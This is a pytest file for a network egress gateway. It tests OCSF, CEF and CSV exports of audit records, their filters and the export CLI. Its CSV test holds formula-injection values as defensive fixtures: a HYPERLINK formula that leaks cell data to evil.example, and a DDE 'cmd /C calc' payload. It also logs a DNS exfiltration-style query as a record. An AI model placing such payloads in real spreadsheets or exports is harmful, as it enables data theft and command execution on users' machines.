"""Audit exports: OCSF events validate against the OCSF schema, CEF and CSV round trip, filters, the CLI.

The OCSF JSON Schemas come from the `ocsf-json-schema` package (exports of schema.ocsf.io for each OCSF release,
generated into JSON Schema draft 2020-12: required attributes, enums, types, no unknown attributes); a test below
shows the validator rejects what it should, so a pass means something.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import os
import re
import stat
from collections.abc import Iterator, Mapping
from functools import cache
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

from gateway.audit import AuditLog, fields, read_records
from gateway.audit._cef import cef_fields, format_cef, to_cef
from gateway.audit._chain import encode, line_hash
from gateway.audit._export import (
    CSV_COLUMNS,
    ExportError,
    RecordFilter,
    csv_row,
    export,
    parse_when,
    unprotect_cell,
)
from gateway.audit._ocsf import ADMIN_EVENTS, OCSF_VERSION, SECURITY_EVENTS, event_uid, to_ocsf
from gateway.cli import main

PH = "9f2c" + "0" * 60  # a policy hash

# One record of every shape the gateway writes (gateway/addon.py `_audit_decision` / `_audit_flow`, gateway/dns.py
# `_record`, ebpf DropEvent.audit_fields), with the values that make mappings hard: IPv6, report mode, a method
# OCSF does not list, an ARP drop without addresses.
RECORDS: list[dict[str, Any]] = [
    {"event": "decision", "time": "2025-03-01T10:00:00.123456Z", "sandbox": "agent-1", "source": "10.0.0.2:40112",
     "policy_hash": PH, "verdict": "allow", "mode": "enforce", "rule": "openai", "reason": "allowed_by_rule",
     "phase": "request", "credential": "openai-key", "scheme": "https", "host": "api.openai.com", "port": 443,
     "method": "POST", "path": "/v1/chat?api-version=REDACTED", "intercepted": True,
     "upstream_address": "203.0.113.7:443", "upstream_status": 200, "bytes_in": 512, "bytes_out": 2048,
     "credential_fingerprint": "0123456789abcdef0123456789abcdef", "echo_redactions": 0, "duration_ms": 41.5,
     "error": None, "correlation": {"x-agent-run": "run-7"}},
    {"event": "decision", "time": "2025-03-01T10:00:01Z", "sandbox": "agent-1", "source": "10.0.0.2:40113",
     "policy_hash": PH, "verdict": "deny", "mode": "enforce", "rule": None, "reason": "no_matching_rule",
     "phase": "request", "credential": None, "scheme": "http", "host": "example.com", "port": 80,
     "method": "PATCH", "path": "/x"},
    {"event": "decision", "time": "2025-03-01T10:00:02Z", "sandbox": "agent-2", "source": "2001:db8::2:5000",
     "policy_hash": PH, "verdict": "deny", "mode": "report", "rule": "no-uploads", "reason": "denied_by_rule",
     "phase": "request", "credential": None, "scheme": "https", "host": "2001:db8::1", "port": 8443,
     "method": "PROPFIND", "path": "/"},
    {"event": "decision", "time": "2025-03-01T10:00:03Z", "sandbox": "agent-1", "source": "10.0.0.2:40114",
     "policy_hash": PH, "verdict": "allow", "mode": "enforce", "rule": "github", "reason": "allowed_by_rule",
     "phase": "connection", "credential": None, "scheme": "https", "host": "github.com", "port": 443,
     "method": None, "path": None, "intercepted": False},
    {"event": "decision", "time": "2025-03-01T10:00:04Z", "sandbox": None, "source": "10.0.0.9:1",
     "policy_hash": PH, "verdict": "deny", "mode": "enforce", "rule": None, "reason": "protocol_not_allowed",
     "phase": "connection", "credential": None, "scheme": "tcp", "host": "198.51.100.1", "port": 22,
     "method": None, "path": None},
    {"event": "decision", "time": "2025-03-01T10:00:04.5Z", "sandbox": None, "source": "10.0.0.9:2",
     "policy_hash": PH, "verdict": "deny", "mode": "enforce", "rule": None, "reason": "unknown_sandbox",
     "phase": "connection", "credential": None},
    {"event": "decision", "time": "2025-03-01T10:00:05Z", "sandbox": "agent-1", "source": "10.0.0.2:5353",
     "policy_hash": PH, "phase": "dns", "verdict": "allow", "mode": "enforce", "rule": "openai",
     "reason": "allowed_by_rule", "host": "api.openai.com", "qtype": "A", "rcode": "NOERROR",
     "answers": ["203.0.113.7", "203.0.113.8"], "ttl": 30, "error": None},
    {"event": "decision", "time": "2025-03-01T10:00:06Z", "sandbox": "agent-1", "source": "10.0.0.2:5353",
     "policy_hash": PH, "phase": "dns", "verdict": "deny", "mode": "enforce", "rule": None,
     "reason": "high_entropy_label", "host": "aGVsbG8gd29ybGQ.evil.example", "qtype": "CH TXT", "rcode": "REFUSED",
     "answers": [], "ttl": None, "error": None},
    {"event": "security", "time": "2025-03-01T10:00:07Z", "kind": "host_mismatch", "sandbox": "agent-1",
     "source": "10.0.0.2:40115", "policy_hash": PH, "host": "api.openai.com", "port": 443,
     "detail": "SNI evil.example != CONNECT api.openai.com"},
    {"event": "security", "time": "2025-03-01T10:00:08Z", "kind": "hook_error", "source": None,
     "policy_hash": PH, "detail": "request: KeyError"},
    {"event": "security", "time": "2025-03-01T10:00:09Z", "kind": "secret_echo", "sandbox": "agent-1",
     "source": "10.0.0.2:40116", "policy_hash": PH, "host": "echo.example", "port": 443,
     "credential": "openai-key", "detail": "2 echo(es) of the injected credential redacted from the response"},
    {"event": "security", "time": "2025-03-01T10:00:10Z", "kind": "packet_dropped", "sandbox": "agent-1",
     "reason": "quic", "detail": "UDP to port 443 (QUIC)", "destination": "203.0.113.7", "port": 443,
     "protocol": "udp", "source": "10.0.0.2", "source_mac": "02:00:00:00:00:02", "hook": "tc", "count": 3},
    {"event": "security", "time": "2025-03-01T10:00:11Z", "kind": "packet_dropped", "sandbox": None,
     "reason": "arp_spoof", "detail": "ARP", "destination": None, "port": None,
     "protocol": "arp", "source": None, "source_mac": "02:00:00:00:00:03", "hook": "tc", "count": 1},
    {"event": "security", "time": "2025-03-01T10:00:12Z", "kind": "dns_refused", "sandbox": "agent-1",
     "source": "10.0.0.2:5353", "policy_hash": PH, "host": "x.evil.example", "detail": "dns TXT: high entropy"},
]  # fmt: skip
SHAPES = [
    "request allowed",
    "request denied",
    "request report mode",
    "connection spliced",
    "connection refused",
    "connection unknown sandbox",
    "dns answered",
    "dns refused",
    "host_mismatch",
    "hook_error",
    "secret_echo",
    "packet dropped",
    "arp dropped",
    "dns_refused",
]


# Admin records (gateway/server.py, `Gateway.add_sandbox` / `remove_sandbox` / `reload_policy`): every action, every
# `via`, a TCP peer over IPv4 and IPv6, the admin socket, no peer at all.
ADMIN_RECORDS: list[dict[str, Any]] = [
    {"event": "admin", "time": "2025-03-01T10:01:00Z", "action": "sandbox_registered", "via": "admin_api",
     "peer": "unix", "sandbox": "agent-9", "sources": ["10.0.0.9/32"], "policies": ["base", "llm"],
     "labels": {"team": "ml"}, "default_mode": "enforce", "limits": {"requests_per_minute": 60, "mode": "enforce"},
     "has_token": True, "policy_hash": PH},
    {"event": "admin", "time": "2025-03-01T10:01:01Z", "action": "sandbox_replaced", "via": "admin_api",
     "peer": "198.51.100.4:40100", "sandbox": "agent-9", "sources": ["10.0.0.9/32", "10.0.0.10/32"],
     "policies": ["base"], "labels": {}, "default_mode": "report", "limits": None, "has_token": False,
     "policy_hash": PH},
    {"event": "admin", "time": "2025-03-01T10:01:02Z", "action": "sandbox_unregistered", "via": "python",
     "sandbox": "agent-9", "sources": ["10.0.0.9/32"], "policies": ["base"], "labels": {}, "default_mode": "enforce",
     "limits": None, "has_token": False, "policy_hash": PH, "leases_revoked": 2},
    {"event": "admin", "time": "2025-03-01T10:01:03Z", "action": "policy_reloaded", "via": "sighup",
     "old_policy_hash": PH, "policy_hash": "1" * 64, "rule_count": 12, "sandboxes": 3},
    {"event": "admin", "time": "2025-03-01T10:01:04Z", "action": "policy_reload_failed", "via": "admin_api",
     "peer": "2001:db8::5:40200", "old_policy_hash": PH, "policy_hash": PH, "rule_count": 12, "sandboxes": 3,
     "errors": 7, "error_locations": ["/etc/p.yaml:3:5", "/etc/p.yaml:9:1", "config:1:1"]},
]  # fmt: skip
ADMIN_SHAPES = ["registered", "replaced", "unregistered", "reloaded", "reload failed"]


@cache
def _ocsf() -> OcsfJsonSchemaEmbedded:
    return OcsfJsonSchemaEmbedded(get_ocsf_schema(version=OCSF_VERSION))


@cache
def _validator(class_uid: int, profiles: tuple[str, ...]) -> jsonschema.Draft202012Validator:
    schema = _ocsf().get_class_schema(
        class_name=_ocsf().lookup_class_name_from_uid(class_uid=class_uid), profiles=list(profiles)
    )
    return jsonschema.Draft202012Validator(schema)


def ocsf_errors(event: Mapping[str, Any]) -> list[str]:
    """Schema violations of one OCSF event (empty: valid), checked against its class and declared profiles."""
    validator = _validator(event["class_uid"], tuple(event.get("metadata", {}).get("profiles", [])))
    errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message[:300]}" for e in validator.iter_errors(event)]
    # What a JSON Schema cannot say: the derived ids agree with each other.
    if event["type_uid"] != event["class_uid"] * 100 + event["activity_id"]:
        errors.append(f"type_uid {event['type_uid']} != class_uid * 100 + activity_id")
    if event["category_uid"] != event["class_uid"] // 1000:
        errors.append("category_uid does not match class_uid")
    return errors


@pytest.fixture
def audit_file(tmp_path: Path) -> Path:
    """RECORDS written by the real audit log: a chained file with a header and a closing checkpoint."""
    path = tmp_path / "audit.jsonl"
    with AuditLog(str(path), durability="none") as audit:
        for record in RECORDS:
            audit.write(record)
    return path


# -- OCSF ----------------------------------------------------------------------------------------------------------


def test_every_security_kind_has_a_title_severity_and_action() -> None:
    assert set(SECURITY_EVENTS) == set(fields.SECURITY_KINDS)


@pytest.mark.parametrize("record", RECORDS, ids=SHAPES)
def test_ocsf_event_validates_against_the_ocsf_schema(record: dict[str, Any]) -> None:
    event = to_ocsf(record)
    assert event is not None
    assert ocsf_errors(event) == []
    assert event["metadata"]["version"] == OCSF_VERSION
    assert event["metadata"]["product"]["name"] == "cube-egress"
    assert event["time"] == int(dt.datetime.fromisoformat(record["time"]).timestamp() * 1000)
    assert "null" not in json.dumps(event)  # absent, never null: OCSF consumers treat null as a value


def test_the_validator_rejects_broken_events() -> None:
    good = to_ocsf(RECORDS[0])
    assert good is not None and ocsf_errors(good) == []
    broken = []
    for mutate in (
        lambda e: e.pop("metadata"),  # required
        lambda e: e.update(activity_id=42),  # not in the enum
        lambda e: e["http_request"].update(http_method="FETCH"),  # not an HTTP method OCSF knows
        lambda e: e["dst_endpoint"].update(port=70000),  # out of range
        lambda e: e.update(made_up=1),  # unknown attribute
        lambda e: e.update(type_uid=400201),  # disagrees with class and activity
        lambda e: e["metadata"].update(profiles=[]),  # firewall_rule, disposition_id... need security_control
    ):
        event = copy.deepcopy(good)
        mutate(event)
        broken.append(ocsf_errors(event))
    assert all(broken), broken


@pytest.mark.parametrize("record", ADMIN_RECORDS, ids=ADMIN_SHAPES)
def test_ocsf_admin_event_validates_against_the_ocsf_schema(record: dict[str, Any]) -> None:
    event = to_ocsf(record)
    assert event is not None
    assert ocsf_errors(event) == []
    assert (event["class_uid"], event["category_uid"], event["category_name"]) == (6003, 6, "Application Activity")
    assert event["metadata"]["profiles"] == [] and event["metadata"]["event_code"] == record["action"]
    assert event["api"] == {"operation": record["action"]} and event["actor"] == {"app_name": record["via"]}
    assert "null" not in json.dumps(event)


def test_every_admin_action_has_a_title_activity_and_severity() -> None:
    assert set(ADMIN_EVENTS) == set(fields.ADMIN_ACTIONS)
    assert {r["action"] for r in ADMIN_RECORDS} == set(fields.ADMIN_ACTIONS)
    assert {r["via"] for r in ADMIN_RECORDS} == set(fields.ADMIN_VIAS)


def test_ocsf_admin_events() -> None:
    events = [to_ocsf(r) for r in ADMIN_RECORDS]
    got = [(e["activity_id"], e["activity_name"], e["status_id"], e["severity_id"]) for e in events if e]
    assert got == [
        (1, "Create", 1, 1),  # registered
        (3, "Update", 1, 1),  # replaced
        (4, "Delete", 1, 1),  # unregistered
        (3, "Update", 1, 1),  # reloaded
        (3, "Update", 2, 2),  # reload refused: a failure, low
    ]
    registered, replaced, unregistered, reloaded, failed = (e or {} for e in events)
    assert registered["src_endpoint"] == {"name": "unix"}
    assert registered["resources"] == [
        {
            "type": "sandbox",
            "uid": "agent-9",
            "name": "agent-9",
            "data": {
                "sources": ["10.0.0.9/32"],
                "policies": ["base", "llm"],
                "labels": {"team": "ml"},
                "default_mode": "enforce",
                "limits": {"requests_per_minute": 60, "mode": "enforce"},
                "has_token": True,
            },
        }
    ]
    assert registered["unmapped"] == {"policy_hash": PH}  # no OCSF attribute for it outside security_control
    assert replaced["src_endpoint"] == {"ip": "198.51.100.4", "port": 40100}
    assert "limits" not in replaced["resources"][0]["data"]  # null: left out
    assert unregistered["src_endpoint"] == {"name": "python"}
    assert unregistered["unmapped"] == {"policy_hash": PH, "leases_revoked": 2}
    assert reloaded["src_endpoint"] == {"name": "sighup"}
    assert reloaded["resources"] == [
        {"type": "policy", "uid": "1" * 64, "name": "cube-egress policy", "data": {"rule_count": 12, "sandboxes": 3}}
    ]
    assert reloaded["unmapped"] == {"old_policy_hash": PH}
    assert failed["src_endpoint"] == {"ip": "2001:db8::5", "port": 40200}
    assert (failed["status"], failed["status_detail"]) == (
        "Failure",
        "7 error(s): /etc/p.yaml:3:5, /etc/p.yaml:9:1, config:1:1",
    )
    assert failed["unmapped"]["errors"] == 7 and len(failed["unmapped"]["error_locations"]) == 3
    assert failed["message"].startswith("Policy reload refused")


def test_the_validator_rejects_broken_admin_events() -> None:
    good = to_ocsf(ADMIN_RECORDS[0])
    assert good is not None and ocsf_errors(good) == []
    broken = []
    for mutate in (
        lambda e: e.pop("actor"),  # required
        lambda e: e.pop("src_endpoint"),  # required
        lambda e: e.update(api={}),  # api.operation is required
        lambda e: e.update(activity_id=5, type_uid=600305),  # API Activity has no activity 5
        lambda e: e.update(src_endpoint={"port": 1}),  # an endpoint needs an ip, a name, a uid...
        lambda e: e["resources"][0].pop("uid") and e["resources"][0].pop("name"),  # a resource needs one of them
        lambda e: e.update(action_id=1),  # a security_control attribute, and the event declares no profile
        lambda e: e.update(category_uid=4),  # disagrees with the class
    ):
        event = copy.deepcopy(good)
        mutate(event)
        broken.append(ocsf_errors(event))
    assert all(broken), broken


def test_ocsf_classes_and_dispositions() -> None:
    events = [to_ocsf(r) for r in RECORDS]
    got = [(e["class_uid"], e["activity_id"], e.get("action_id"), e.get("disposition_id")) for e in events if e]
    assert got == [
        (4002, 6, 1, 1),  # POST, allowed
        (4002, 9, 2, 2),  # PATCH, denied: blocked
        (4002, 99, 3, 15),  # PROPFIND (no OCSF method): report mode is observed, detected
        (4001, 1, 1, 1),  # spliced connection: open
        (4001, 5, 2, 2),  # refused connection
        (4001, 5, 2, 2),
        (4003, 2, 1, 1),  # DNS response
        (4003, 2, 2, 2),
        (2004, 1, 2, 2),  # detection findings
        (2004, 1, 2, 2),
        (2004, 1, 4, 11),  # secret_echo: modified, corrected
        (4001, 5, 2, 2),  # packet drops
        (4001, 5, 2, 2),
        (2004, 1, 2, 2),
    ]


def test_ocsf_http_activity_maps_every_field() -> None:
    event = to_ocsf(RECORDS[0])
    assert event is not None
    req = event["http_request"]
    assert req["http_method"] == "POST" and req["body_length"] == 512
    assert req["url"] == {
        "scheme": "https",
        "hostname": "api.openai.com",
        "port": 443,
        "path": "/v1/chat",
        "query_string": "api-version=REDACTED",
        "url_string": "https://api.openai.com:443/v1/chat?api-version=REDACTED",
    }
    assert event["http_response"] == {"code": 200, "body_length": 2048}
    assert event["src_endpoint"] == {"uid": "agent-1", "ip": "10.0.0.2", "port": 40112}
    assert event["dst_endpoint"] == {"hostname": "api.openai.com", "ip": "203.0.113.7", "port": 443}
    assert event["firewall_rule"] == {"uid": "openai", "name": "openai"}
    assert event["policy"]["uid"] == PH
    assert (event["status_id"], event["status_detail"], event["duration"]) == (1, "allowed_by_rule", 42)
    # What OCSF has no attribute for is kept as it was.
    assert event["unmapped"] == {
        "verdict": "allow",
        "mode": "enforce",
        "phase": "request",
        "credential": "openai-key",
        "credential_fingerprint": "0123456789abcdef0123456789abcdef",
        "echo_redactions": 0,
        "intercepted": True,
        "correlation": {"x-agent-run": "run-7"},
    }


def test_ocsf_other_shapes() -> None:
    report = to_ocsf(RECORDS[2])
    assert report is not None
    assert report["src_endpoint"] == {"uid": "agent-2", "ip": "2001:db8::2", "port": 5000}
    assert report["dst_endpoint"] == {"ip": "2001:db8::1", "port": 8443}
    assert "http_method" not in report["http_request"] and report["unmapped"]["method"] == "PROPFIND"
    dns = to_ocsf(RECORDS[6])
    assert dns is not None
    assert dns["query"] == {"hostname": "api.openai.com", "type": "A", "class": "IN"}
    assert [a["rdata"] for a in dns["answers"]] == ["203.0.113.7", "203.0.113.8"] and dns["answers"][0]["ttl"] == 30
    assert (dns["rcode"], dns["rcode_id"]) == ("NOERROR", 0)
    refused = to_ocsf(RECORDS[7])
    assert refused is not None
    assert refused["query"]["class"] == "CH" and refused["query"]["type"] == "TXT" and refused["rcode_id"] == 5
    drop = to_ocsf(RECORDS[11])
    assert drop is not None
    assert drop["src_endpoint"] == {"uid": "agent-1", "ip": "10.0.0.2", "mac": "02:00:00:00:00:02"}
    assert drop["dst_endpoint"] == {"ip": "203.0.113.7", "port": 443}
    assert drop["connection_info"]["protocol_name"] == "udp" and drop["count"] == 3
    assert drop["firewall_rule"]["name"] == "quic"
    finding = to_ocsf(RECORDS[8])
    assert finding is not None
    assert finding["finding_info"]["uid"] == finding["metadata"]["uid"]
    assert finding["finding_info"]["types"] == ["host_mismatch"]
    assert finding["finding_info"]["desc"] == "SNI evil.example != CONNECT api.openai.com"
    assert finding["severity_id"] == 3 and finding["is_alert"] is True


def test_ocsf_uid_is_the_line_hash_that_the_next_record_chains_to(audit_file: Path) -> None:
    lines = audit_file.read_bytes().splitlines()
    records = [json.loads(x) for x in lines]
    for line, record, following in zip(lines, records, records[1:], strict=False):
        event = to_ocsf(record)
        if event is None:
            assert record["event"] in fields.CHAIN_EVENTS
            continue
        assert event["metadata"]["uid"] == line_hash(line) == following["prev"]
        assert event["metadata"]["sequence"] == record["seq"]
        assert event["unmapped"]["prev"] == record["prev"]
    assert to_ocsf({"event": "checkpoint", "time": "2025-03-01T10:00:00Z"}) is None


# -- CEF -------------------------------------------------------------------------------------------------------------


def _cef_unescape(text: str) -> str:
    return re.sub(r"\\(.)", lambda m: {"n": "\n", "r": "\r"}.get(m[1], m[1]), text)


def parse_cef(line: str) -> tuple[list[str], dict[str, str]]:
    """A strict CEF parser: header fields split at unescaped pipes, extension keys found at unescaped '='."""
    assert "\n" not in line and "\r" not in line
    assert line.startswith("CEF:0|")
    header: list[str] = []
    i, start = len("CEF:0|"), len("CEF:0|")
    while len(header) < 6:
        if line[i] == "\\":
            i += 2
            continue
        if line[i] == "|":
            header.append(_cef_unescape(line[start:i]))
            start = i + 1
        i += 1
    ext = line[start:]
    equals = []
    j = 0
    while j < len(ext):
        if ext[j] == "\\":
            j += 2
            continue
        if ext[j] == "=":
            equals.append(j)
        j += 1
    keys = []
    for eq in equals:
        m = re.search(r"[A-Za-z0-9]+$", ext[:eq])
        assert m is not None and (m.start() == 0 or ext[m.start() - 1] == " "), ext
        keys.append((m.group(), m.start(), eq))
    out: dict[str, str] = {}
    for n, (key, _, eq) in enumerate(keys):
        end = keys[n + 1][1] - 1 if n + 1 < len(keys) else len(ext)
        assert key not in out
        out[key] = _cef_unescape(ext[eq + 1 : end])
    return header, out


@pytest.mark.parametrize("record", RECORDS, ids=SHAPES)
def test_cef_round_trip(record: dict[str, Any]) -> None:
    fields_ = cef_fields(record)
    assert fields_ is not None
    header, ext = fields_
    assert parse_cef(format_cef(header, ext)) == (header, ext)
    assert header[:2] == ["cube-egress", "cube-egress"] and 0 <= int(header[5]) <= 10


@pytest.mark.parametrize("record", ADMIN_RECORDS, ids=ADMIN_SHAPES)
def test_cef_admin_round_trip(record: dict[str, Any]) -> None:
    fields_ = cef_fields(record)
    assert fields_ is not None
    header, ext = fields_
    assert parse_cef(format_cef(header, ext)) == (header, ext)
    assert header[3] == f"admin:{record['action']}" and header[4] == ADMIN_EVENTS[record["action"]][0]
    assert (ext["cat"], ext["act"], ext["cs2Label"], ext["cs2"]) == ("admin", record["action"], "via", record["via"])


def test_cef_admin_fields() -> None:
    header, reg = cef_fields(ADMIN_RECORDS[0]) or ([], {})
    assert header[5] == "1" and reg["outcome"] == "success"
    assert (reg["cs1"], reg["cs3"], reg["cs5"], reg["cs5Label"], reg["cs6"]) == (
        "agent-9",
        PH,
        "10.0.0.9/32",
        "sources",
        "base,llm",
    )
    assert "src" not in reg and reg["msg"].startswith("peer=unix default_mode=enforce has_token=true limits={")
    _, replaced = cef_fields(ADMIN_RECORDS[1]) or ([], {})
    assert (replaced["src"], replaced["spt"], replaced["cs5"]) == ("198.51.100.4", "40100", "10.0.0.9/32,10.0.0.10/32")
    _, gone = cef_fields(ADMIN_RECORDS[2]) or ([], {})
    assert (gone["cn2"], gone["cn2Label"]) == ("2", "leasesRevoked")
    header, failed = cef_fields(ADMIN_RECORDS[4]) or ([], {})
    assert header[5] == "3" and failed["outcome"] == "failure"
    assert (failed["c6a2"], failed["spt"], failed["cn3"], failed["cn3Label"]) == ("2001:db8::5", "40200", "7", "errors")
    assert (failed["cs3"], failed["cs4"], failed["cs4Label"], failed["cn1"]) == (PH, PH, "oldPolicyHash", "12")
    assert 'error_locations=["/etc/p.yaml:3:5","/etc/p.yaml:9:1","config:1:1"]' in failed["msg"]


def test_cef_escapes_what_would_break_a_line_or_a_field() -> None:
    nasty = "a|b\\c=d\nnext\r\nline =x \\= \\|"
    record = {
        **RECORDS[8],
        "sandbox": "sb|1=2",
        "detail": nasty,
        "host": "h\\|x",
    }
    line = to_cef(record)
    assert line is not None and "\n" not in line and "\r" not in line
    _, ext = parse_cef(line)
    assert ext["msg"] == nasty and ext["cs1"] == "sb|1=2" and ext["cs1Label"] == "sandbox"
    assert ext["dhost"] == "h\\|x"
    header_record = {**RECORDS[8], "kind": "weird|kind\\x\ny"}  # a kind this build does not know
    h, _ = parse_cef(to_cef(header_record) or "")
    assert h[3] == "security:weird|kind\\x\ny"


def test_cef_fields() -> None:
    _, ext = cef_fields(RECORDS[0]) or ([], {})
    assert ext["rt"] == "1740823200123" and ext["act"] == "allow" and ext["reason"] == "allowed_by_rule"
    assert (ext["src"], ext["spt"], ext["dhost"], ext["dst"], ext["dpt"]) == (
        "10.0.0.2",
        "40112",
        "api.openai.com",
        "203.0.113.7",
        "443",
    )
    assert ext["request"] == "https://api.openai.com:443/v1/chat?api-version=REDACTED"
    assert (ext["requestMethod"], ext["in"], ext["out"], ext["cn1"], ext["cn2"]) == ("POST", "512", "2048", "200", "42")
    assert (ext["cs2"], ext["cs3"], ext["cs4"]) == ("openai", PH, "openai-key")
    header, ext6 = cef_fields(RECORDS[2]) or ([], {})
    assert header[3:] == ["decision:denied_by_rule", "request report", "3"]
    assert ext6["c6a2"] == "2001:db8::2" and ext6["c6a3"] == "2001:db8::1" and "src" not in ext6
    _, drop = cef_fields(RECORDS[11]) or ([], {})
    assert (drop["proto"], drop["cnt"], drop["smac"], drop["reason"]) == ("UDP", "3", "02:00:00:00:00:02", "quic")
    assert cef_fields({"event": "header", "time": "2025-03-01T10:00:00Z"}) is None


# -- CSV -------------------------------------------------------------------------------------------------------------


def _plain(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, list | dict):
        return json.dumps(value, separators=(",", ":"), sort_keys=True)
    return str(value)


def test_csv_round_trip_through_dictreader(audit_file: Path) -> None:
    tricky = {
        **RECORDS[1],
        "sandbox": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "path": "/a,b\"c\nd",
        "rule": "+cmd|' /C calc'!A0",
        "reason": "-2+3",
        "credential": "@SUM(1)",
        "detail": "\tx",
        "error": "'already quoted",
        "host": "\rcr",
    }
    records = [*read_records([audit_file]), tricky]
    buf = io.StringIO(newline="")
    assert export(records, "csv", buf) == len(records)
    text = buf.getvalue()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(records)
    assert list(rows[0]) == list(CSV_COLUMNS)
    for row, record in zip(rows, records, strict=True):
        for column in CSV_COLUMNS[:-2]:
            cell = row[column]
            # Formula protection: no cell starts with a character a spreadsheet would act on.
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            assert unprotect_cell(cell) == _plain(record.get(column)), column
        assert row["uid"] == event_uid(record)
        extra = json.loads(unprotect_cell(row["extra"])) if row["extra"] else {}
        assert extra == {k: v for k, v in record.items() if k not in CSV_COLUMNS}
    last = rows[-1]
    assert last["sandbox"].startswith("'=") and last["rule"].startswith("'+") and last["error"] == "''already quoted"


def test_csv_admin_rows_round_trip(tmp_path: Path) -> None:
    buf = io.StringIO(newline="")
    assert export(ADMIN_RECORDS, "csv", buf) == len(ADMIN_RECORDS)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))
    assert [(r["event"], r["action"], r["via"]) for r in rows] == [
        ("admin", r["action"], r["via"]) for r in ADMIN_RECORDS
    ]
    for row, record in zip(rows, ADMIN_RECORDS, strict=True):
        for column in CSV_COLUMNS[:-2]:
            assert unprotect_cell(row[column]) == _plain(record.get(column)), column
        extra = json.loads(unprotect_cell(row["extra"]))
        assert extra == {k: v for k, v in record.items() if k not in CSV_COLUMNS}
    assert json.loads(rows[0]["extra"])["sources"] == ["10.0.0.9/32"]


def test_export_command_admin_records_from_the_log(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Admin records written by the real log (`AuditLog.admin`), exported by the command in every format, alone
    with `--event admin`."""
    path = tmp_path / "audit.jsonl"
    with AuditLog(str(path), durability="none") as audit:
        audit.write(RECORDS[0])
        for record in ADMIN_RECORDS:
            rest = {k: v for k, v in record.items() if k not in ("event", "time", "action", "via")}
            assert audit.admin(record["action"], **{"via": record["via"], **rest}) > 0
        audit.write(RECORDS[8])
    with pytest.raises(AssertionError):
        AuditLog(None).admin("sandbox_deleted", "admin_api")  # a closed set, like the security kinds
    with pytest.raises(AssertionError):
        AuditLog(None).admin("policy_reloaded", "cron")
    outputs = {}
    for fmt in ("jsonl", "ocsf", "cef", "csv"):
        assert main(["audit", "export", "--format", fmt, "--event", "admin", str(path)]) == 0
        outputs[fmt] = capsys.readouterr().out.splitlines()
    lines = [json.loads(x) for x in outputs["jsonl"]]
    assert [r["action"] for r in lines] == [r["action"] for r in ADMIN_RECORDS]
    assert all(r["event"] == "admin" for r in lines)
    events = list(iter_ocsf(outputs["ocsf"]))
    assert [e["class_uid"] for e in events] == [6003] * 5
    assert [e["metadata"]["uid"] for e in events] == [event_uid(r) for r in lines]
    assert [parse_cef(x)[0][3] for x in outputs["cef"]] == [f"admin:{r['action']}" for r in ADMIN_RECORDS]
    assert len(outputs["csv"]) == 1 + len(ADMIN_RECORDS)
    assert main(["audit", "export", "--format", "jsonl", str(path)]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 2 + len(ADMIN_RECORDS)  # all events, without --event


def test_csv_row_is_stable() -> None:
    row = csv_row(RECORDS[0])
    assert list(row) == list(CSV_COLUMNS)
    assert (row["port"], row["intercepted"], row["duration_ms"], row["bytes_in"]) == ("443", "true", "41.5", "512")
    assert json.loads(row["extra"]) == {"correlation": {"x-agent-run": "run-7"}}


# -- filters and the command ---------------------------------------------------------------------------------------


NOW = dt.datetime(2025, 3, 1, 12, 0, tzinfo=dt.UTC)


@pytest.mark.parametrize(
    ("text", "when"),
    [
        ("1h", NOW - dt.timedelta(hours=1)),
        ("90s", NOW - dt.timedelta(seconds=90)),
        ("1h30m", NOW - dt.timedelta(minutes=90)),
        ("2d", NOW - dt.timedelta(days=2)),
        ("1w", NOW - dt.timedelta(weeks=1)),
        ("2025-03-01", dt.datetime(2025, 3, 1, tzinfo=dt.UTC)),
        ("2025-03-01T10:00:05Z", dt.datetime(2025, 3, 1, 10, 0, 5, tzinfo=dt.UTC)),
        ("2025-03-01T11:00:05+01:00", dt.datetime(2025, 3, 1, 10, 0, 5, tzinfo=dt.UTC)),
        ("2025-03-01 10:00", dt.datetime(2025, 3, 1, 10, 0, tzinfo=dt.UTC)),
    ],
)
def test_parse_when(text: str, when: dt.datetime) -> None:
    assert parse_when(text, now=NOW) == when


@pytest.mark.parametrize("text", ["yesterday", "1y", "-1h", "2025-13-01", ""])
def test_parse_when_refuses(text: str) -> None:
    with pytest.raises(ExportError, match="neither ISO 8601"):
        parse_when(text, now=NOW)


def _times(keep: RecordFilter) -> list[str]:
    return [r["time"] for r in RECORDS if keep(r)]


def test_filters() -> None:
    t = dt.datetime.fromisoformat
    assert _times(RecordFilter(since=t("2025-03-01T10:00:10Z"))) == [
        "2025-03-01T10:00:10Z",
        "2025-03-01T10:00:11Z",
        "2025-03-01T10:00:12Z",
    ]
    assert _times(RecordFilter(since=t("2025-03-01T10:00:01Z"), until=t("2025-03-01T10:00:03Z"))) == [
        "2025-03-01T10:00:01Z",
        "2025-03-01T10:00:02Z",
    ]
    assert len(_times(RecordFilter(sandbox=frozenset({"agent-2"})))) == 1
    assert len(_times(RecordFilter(verdict=frozenset({"deny"})))) == 5  # security events have no verdict
    assert len(_times(RecordFilter(verdict=frozenset({"allow", "deny"})))) == 8
    assert _times(RecordFilter(rule=frozenset({"openai"}))) == ["2025-03-01T10:00:00.123456Z", "2025-03-01T10:00:05Z"]
    assert len(_times(RecordFilter(credential=frozenset({"openai-key"})))) == 2
    assert len(_times(RecordFilter(credential=frozenset({"openai-key"}), event=frozenset({"security"})))) == 1


def test_export_command_jsonl_is_the_log_lines(audit_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["audit", "export", "--format", "jsonl", str(audit_file), "--sandbox", "agent-1"]) == 0
    out = capsys.readouterr().out
    lines = audit_file.read_bytes().decode().splitlines()
    wanted = [x for x in lines if json.loads(x).get("sandbox") == "agent-1"]
    assert out.splitlines() == wanted and len(wanted) == 9
    assert all(encode(json.loads(x)).decode() == x for x in wanted)  # byte for byte, still chained


def test_export_command_ocsf_to_a_private_file(audit_file: Path, tmp_path: Path) -> None:
